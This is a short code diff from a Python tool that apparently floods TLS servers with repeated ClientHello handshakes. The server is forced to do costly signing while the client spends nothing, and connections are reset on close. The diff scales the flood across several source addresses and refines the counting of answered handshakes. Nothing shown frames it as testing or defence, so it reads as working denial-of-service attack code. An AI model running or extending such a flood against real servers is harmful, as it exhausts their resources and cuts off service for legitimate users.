@@ -111,7 +111,8 @@ def stopped_handshakes(target):
 
 def handshakes(addresses, target):
     """Makes the server sign, without any cryptography on this side: the same ClientHello again and again."""
-    crowd = Handshakes(target.port, HANDSHAKE_CONNECTIONS, client_hello(), drip=b"", again=0, addresses=addresses)
+    size = HANDSHAKE_CONNECTIONS * addresses
+    crowd = Handshakes(target.port, size, client_hello(), drip=b"", again=0, addresses=addresses)
     crowd.attack(8)
     return f"{crowd}, {crowd.answered} handshakes answered"
 
@@ -122,7 +123,7 @@ class Handshakes(Crowd):
     answered = 0
 
     def handle(self, index, event):
-        if event & select.EPOLLIN:
+        if event & select.EPOLLIN and not event & select.EPOLLRDHUP:
             self.sockets[index].setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_ON_CLOSE)
             self.answered += 1
             self.close(index)
